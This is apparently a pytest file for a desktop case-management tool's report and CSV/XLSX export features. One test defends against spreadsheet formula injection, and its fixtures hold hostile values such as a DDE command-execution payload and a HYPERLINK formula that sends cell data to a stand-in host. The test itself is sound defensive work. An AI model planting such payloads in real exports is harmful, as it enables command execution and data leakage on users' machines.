"""Spreadsheets as offices open them, no formula smuggled in, private files, quiet pipes, dates that
mean what they say."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest

from desktop.cli import main as enlace
from desktop.services.core.files import spreadsheet_text, write_private
from desktop.services.reports import Period
from desktop.services.reports.export import _sheet_name, decimal_comma, export_report
from tests.conftest import PASSWORD
from tests.reports import factories as f

NOV = Period.month("2026-11")
NOW = datetime(2026, 12, 15, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://x.example/?a="&A1;"clic")'


@pytest.fixture
def office(ctx_for):
    ctx = ctx_for("supervisor")
    with ctx.db.transaction() as s:
        svc = f.service(s, "=cmd|' /C calc'!A0", "Atención", ("health", "Salud"))
        for k in range(37):
            p = f.person(s, registered=f.local(date(2026, 11, 1 + k % 20)), birth_date=date(1990, 1, 1))
            sent = f.local(date(2026, 11, 1 + k % 20))
            closed = sent + f.days(1) if k < 8 else None
            f.referral(s, p, svc, created=sent, sent=sent, accepted=sent if closed else None, closed=closed)
        course, sessions = f.course(s, "GOB", [(date(2026, 11, 10), 4.5)])
        for name in (FORMULA, "+57 300", "-1", "@SUM(A1)", "\tTab", "Ana"):
            p = f.participant(s, institution="alcaldia")
            p.given_names = name
            f.enroll(s, course, p, {sessions[0]: "present"})
    return ctx


def test_sheet_names_are_cut_at_word_boundaries_and_unique():
    used: set[str] = set()
    titles = ["People served by population type and sex", "People served by population type and age",
              "Referrals made by organization and status", "5W: people served by population type, sex and age",
              "Short"]
    names = [_sheet_name(t, used) for t in titles]
    assert len({n.casefold() for n in names}) == len(names)
    for title, name in zip(titles, names, strict=True):
        assert len(name) <= 31
        if name == title:
            continue
        clean = " ".join(title.replace(":", " ").split())  # ':' may not be in a sheet name
        stem = name.split(" (")[0].rstrip("…")
        assert clean.startswith(stem) and clean[len(stem)] in " ,", (title, name)  # whole words only
    assert names[0] == "People served by population…" and names[1] == "People served by… (2)"
    assert names[-1] == "Short"


def test_csv_excel_es_uses_semicolons_and_decimal_commas_and_keeps_the_bom(office, tmp_path):
    path = export_report(office, NOV, "csv", tmp_path / "r.csv", language="en", now=NOW, csv_dialect="excel-es")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Section", "Table", "Row", "Column", "Value"]
    figures = {r[2]: r[4] for r in rows if r[1] == "Figures"}
    assert figures["Hours delivered"] == "4,5" and figures["Completion rate"] == "21,6%"
    assert figures["People served"] == "37"
    assert decimal_comma("es_CO") and decimal_comma("es_AR") and not decimal_comma("es_MX")
    assert not decimal_comma("en_US")


def test_no_formula_reaches_a_spreadsheet(office, ctx_for, tmp_path, monkeypatch, capsys):
    # The participants list as CSV: every formula-like value is text.
    monkeypatch.setenv("ENLACE_PASSWORD", PASSWORD)
    db = office.db.location
    capsys.readouterr()
    assert enlace(["--lang", "en", "--db", db, "--user", "trainer", "training", "participants", "--course", "GOB",
                   "--format", "csv"]) == 0
    names = [r["given_names"] for r in csv.DictReader(io.StringIO(capsys.readouterr().out))]
    assert "'" + FORMULA in names and "'+57 300" in names and "'-1" in names and "'@SUM(A1)" in names
    assert "'\tTab" in names and "Ana" in names
    assert spreadsheet_text(-1) == -1 and spreadsheet_text("a=b") == "a=b"
    # The report: an organization named like a command is text in the XLSX and the CSV.
    xlsx = export_report(office, NOV, "xlsx", tmp_path / "r.xlsx", language="en", now=NOW)
    book = openpyxl.load_workbook(xlsx)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == "=cmd|' /C calc'!A0"]
    assert cells and all(c.data_type == "s" for c in cells)
    text = export_report(office, NOV, "csv", tmp_path / "r.csv", language="en", now=NOW).read_text("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text and ",=cmd" not in text


def test_files_with_personal_data_are_the_owners_only(office, tmp_path, monkeypatch):
    if os.name != "posix":
        pytest.skip("file modes are POSIX")
    monkeypatch.setattr(os, "umask", os.umask)  # whatever the umask, the helper decides
    old = os.umask(0o022)
    try:
        report = export_report(office, NOV, "pdf", tmp_path / "r.pdf", language="en", now=NOW)
        monkeypatch.setenv("ENLACE_PASSWORD", PASSWORD)
        sheet = tmp_path / "asistencia.pdf"
        assert enlace(["--lang", "en", "--db", office.db.location, "--user", "trainer", "training",
                       "attendance-sheet", "--course", "GOB", "--session", "1", "--out", str(sheet)]) == 0
        plain = write_private(tmp_path / "x.bin", b"data")
    finally:
        os.umask(old)
    for path in (report, sheet, plain):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_piping_into_head_ends_quietly(office, tmp_path):
    env = dict(os.environ, ENLACE_PASSWORD=PASSWORD, PYTHONPATH=str(Path(__file__).resolve().parents[2]))
    command = (f"{sys.executable} -m desktop --lang en --db {office.db.location} --user supervisor people list "
               "--format csv | head -1")
    done = subprocess.run(["bash", "-o", "pipefail", "-c", command], env=env, capture_output=True, text=True,
                          timeout=120)
    assert done.stdout.startswith("id,") and done.stderr == "", done.stderr
    assert done.returncode == 0


def test_referrals_list_filters_by_the_sent_date_by_default(ctx_for, monkeypatch, capsys):
    ctx = ctx_for("clerk")
    with ctx.db.transaction() as s:
        svc = f.service(s)
        p = f.person(s, registered=f.local(date(2026, 10, 1)))
        made = f.referral(s, p, svc, created=f.local(date(2026, 10, 30)), sent=f.local(date(2026, 11, 2)),
                          accepted=f.local(date(2026, 11, 3)), closed=f.local(date(2026, 11, 20)))
    monkeypatch.setenv("ENLACE_PASSWORD", PASSWORD)

    def listed(*extra) -> list[str]:
        capsys.readouterr()
        assert enlace(["--lang", "en", "--db", ctx.db.location, "--user", "clerk", "referrals", "list",
                       "--format", "csv", *extra]) == 0
        return [r["number"] for r in csv.DictReader(io.StringIO(capsys.readouterr().out))]

    assert listed("--from", "2026-11-01", "--to", "2026-11-30") == [made.number]  # sent in November
    assert listed("--from", "2026-11-01", "--to", "2026-11-30", "--by", "created") == []
    assert listed("--from", "2026-10-01", "--to", "2026-10-31", "--by", "created") == [made.number]
    assert listed("--from", "2026-11-20", "--to", "2026-11-20", "--by", "closed") == [made.number]
    assert listed("--from", "2026-11-21", "--to", "2026-11-30", "--by", "closed") == []
    capsys.readouterr()
    with pytest.raises(SystemExit):
        enlace(["--lang", "en", "referrals", "list", "--help"])
    assert "sent (default, as the report counts)" in " ".join(capsys.readouterr().out.split())
